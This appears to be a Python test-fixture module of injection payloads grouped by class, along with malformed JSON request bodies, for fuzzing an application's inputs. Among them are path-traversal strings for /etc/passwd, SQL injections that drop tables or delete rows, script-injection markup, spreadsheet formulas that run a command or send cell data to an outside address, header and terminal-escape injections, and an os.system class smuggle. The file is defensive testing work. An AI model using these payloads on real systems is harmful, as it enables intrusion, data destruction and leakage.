"""Payloads, by the class of injection that each tries. Tests send every one wherever hostile text can go."""

from __future__ import annotations

__all__ = ["ALL", "BODIES", "PAYLOADS"]

PAYLOADS: dict[str, tuple[str, ...]] = {
    "path": (
        "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "....//....//x", "%2e%2e%2f%2e%2e%2fx", "..%c0%af",
        "a/../../b", "file:///etc/passwd", "C:\\x", "a\0.txt", ".", "..", "~root", "CON", "isnad.sqlite3", "%00", "a%2fb",
    ),
    "sql": (
        "' OR '1'='1", "'; DROP TABLE articles; --", "\" OR 1=1 --", "1); DELETE FROM passages; --", "x' UNION SELECT 1,2--",
        "\\'; --", "'||(SELECT 1)||'", "%' --", "ATTACH DATABASE '/tmp/x' AS y", "a'/**/OR/**/1=1",
    ),
    "fts": (
        '"', '""', '"a', 'a"b"c', "NEAR(a b, 5)", "a AND", "OR", "NOT a", "a NOT b", "terms:a", "{terms names}: a", "^a", "a*",
        "(a", "a)", "- terms:x", "a + b", "lexicon MATCH 'a'", "rowid:1", "names : a", '«"»', '“NEAR("a" "b")”', "*", "+", "^",
    ),
    "markup": (
        "<script>window.pwned=1</script>", "<img src=x onerror=window.pwned=1>", "<svg/onload=window.pwned=1>",
        '"><img src=x onerror=window.pwned=1>', "' onmouseover='window.pwned=1", "</style><script>window.pwned=1</script>",
        "<iframe srcdoc='<script>parent.pwned=1</script>'>", "javascript:window.pwned=1", "&lt;script&gt;window.pwned=1",
        "<a href='java\nscript:window.pwned=1'>x</a>", "<math><mtext></p><img src=x onerror=window.pwned=1>",
        "data:text/html,<script>window.pwned=1</script>", "<base href='//192.0.2.1/'>", "<link rel=stylesheet href=//192.0.2.1>",
    ),
    "markdown": (
        "![x](//192.0.2.1/a.png)", "![](http://192.0.2.1/a.png)", "[x](javascript:window.pwned=1)", "[x](http://192.0.2.1/)",
        "# heading", "**bold**", "`code`", "$x^2$", ":material/home:", ":red[x]", "<http://192.0.2.1/>", "| a | b |\n|--|--|",
        "[x]: http://192.0.2.1/", "---", "> quote", "1. list", "~~gone~~", ":smile:", "![x][y]\n\n[y]: //192.0.2.1/a.png",
    ),
    "formula": (
        "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://192.0.2.1/?x="&A1)', '";=1+1', "=1+1\",,\"",
    ),
    "header": (
        "a\r\nX-Injected: 1", "a\nSet-Cookie: a=b", "a\r\n\r\n<html>", "%0d%0aX-Injected: 1", "a\u010aX-Injected: 1",
        'a"; filename="b', "a\u2028X-Injected: 1", "W/\"a\"\r\n",
    ),
    "log": (
        "a\n2026-01-01 ERROR forged", "\x1b[2J\x1b[31mred", "\x1b]0;title\x07", "\x1b]52;c;YQ==\x07", "a\rb", "\x9b31m", "\b\b\b",
        "a\x85b", "%s%n%x", "{0.__class__}", "[red]rich[/red]",
    ),
    "bidi": (
        "\u202egpj.exe", "\u2066a\u2067b", "\u202aa\u202b", "a\u2069b", "\u200fa", "\u061ca", "\u202d\u202e" * 20,
    ),
    "odd": (
        "\0", "a\0b", "\ufffe", "\uffff", "\U0010ffff", "\u0301" * 50, "\ufeff", "\u200b" * 50, "Z\u0351\u036b\u0343" * 30,
        "a" * 1999, "İ" * 500, "ﷺ" * 300, "🏴\U000e0067\U000e0062" * 20, "0" * 400, "9" * 400,
    ),
}  # fmt: skip
"""What is text and must stay text."""

ALL = tuple(payload for several in PAYLOADS.values() for payload in several)

BODIES: dict[str, bytes] = {
    "deep list": b"[" * 90_000,
    "deep object": b'{"question":' * 7_000 + b"1" + b"}" * 7_000,
    "huge number": b'{"question": "a", "k": ' + b"9" * 5_000 + b"}",
    "huge exponent": b'{"question": "a", "k": 1e999999}',
    "not a number": b'{"question": "a", "k": NaN}',
    "infinity": b'{"question": "a", "k": -Infinity}',
    "duplicate keys": b'{"question": "a", "question": 7}',
    "half a surrogate": b'{"question": "\\ud800"}',
    "half a surrogate as a key": b'{"\\udfff": 1}',
    "NUL": b'{"question": "\\u0000"}',
    "not UTF-8": b'{"question": "\xff\xfe"}',
    "overlong UTF-8": b'{"question": "\xc0\xaf"}',
    "byte order mark": b"\xef\xbb\xbf{}",
    "prototype": b'{"__proto__": {"k": 1}, "question": "a"}',
    "class": b'{"__class__": "os.system", "question": "a"}',
    "cut off": b'{"question": "a',
    "two values": b'{"question": "a"} {"question": "b"}',
    "a string": b'"question"',
    "nothing": b"",
    "many keys": b"{" + b",".join(b'"k%d": 1' % n for n in range(8_000)) + b"}",
    "a list of lists": b'{"question": ["a"], "filters": [[]]}',
}
"""What is no request, in bytes."""
